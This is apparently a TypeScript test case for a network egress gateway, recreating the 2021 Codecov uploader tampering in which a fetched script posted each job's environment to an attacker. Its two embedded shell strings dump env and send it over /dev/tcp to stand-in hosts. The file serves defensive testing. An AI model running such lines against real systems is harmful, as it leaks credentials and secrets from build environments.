import type { Attack } from '../../attack.ts';
import { denied, notAsked } from '../../expected-event.ts';

/** It leaves what it finds where it came from: the server is the attacker's by then, and on the allowlist. */
const BACK = `echo uploading the report
body=$(env)
exec 3<>/dev/tcp/uploader.test/80 && printf 'POST /upload/v2 HTTP/1.1\\r\\nHost: uploader.test\\r\\nContent-Length: %d\\r\\n\\r\\n%s' "\${#body}" "$body" >&3
`;

/** What was added to it sends the job's variables to the attacker, with nothing but a shell. */
const TAMPERED = `echo uploading the report
body=$(env)
exec 3<>/dev/tcp/collect.attacker.test/80 && printf 'POST /upload/v2 HTTP/1.1\\r\\nHost: collect.attacker.test\\r\\nContent-Length: %d\\r\\n\\r\\n%s' "\${#body}" "$body" >&3
`;

export const attack: Attack = {
  name: 'tampered-script',
  title: 'A downloaded script that was changed at its source',
  story:
    'Jobs fetch a script and hand it to a shell. For two months of 2021 the one at codecov.io had a line more, which posted ' +
    'the whole environment of each job to an address of the attacker; nobody compared what came with what should. The host ' +
    'that serves it is one that the job must reach.',
  sources: [
    ['Codecov bash uploader, 2021', 'https://about.codecov.io/apr-2021-post-mortem/'],
    ['MITRE ATT&CK T1195.002', 'https://attack.mitre.org/techniques/T1195/002/'],
    ['practical guide §4'],
  ],
  cases: [
    {
      name: 'curl-bash',
      control: 'the gateway: what the script adds goes to a name not on the allowlist',
      without: ['gateway'],
      holdsCanary: true,
      allow: ['uploader.test:80'],
      addresses: { 'uploader.test': ['203.0.113.9'] },
      prepare: ({ sink }) => {
        sink.answer = (path) => (path === '/bash' ? TAMPERED : '');
      },
      harm: ({ sink, canary }) => sink.got(canary) && 'the environment arrived',
      event: notAsked(({ name }) => name === 'collect.attacker.test'),
    },
    {
      name: 'back-to-its-own-host',
      control: 'the gateway: methods and paths of an allowed host',
      without: ['narrowed-entries'],
      holdsCanary: true,
      allow: [{ to: 'uploader.test:80', methods: ['GET'], paths: ['/bash'] }],
      allowedWithout: ['uploader.test:80'],
      addresses: { 'uploader.test': ['203.0.113.9'] },
      prepare: ({ sink }) => {
        sink.answer = (path) => (path === '/bash' ? BACK : '');
      },
      harm: ({ sink, canary }) => sink.got(canary) && 'the environment arrived at the host of the script',
      event: denied('request-not-allowed', ({ reason }) => reason === 'request-not-allowed'),
    },
  ],
};
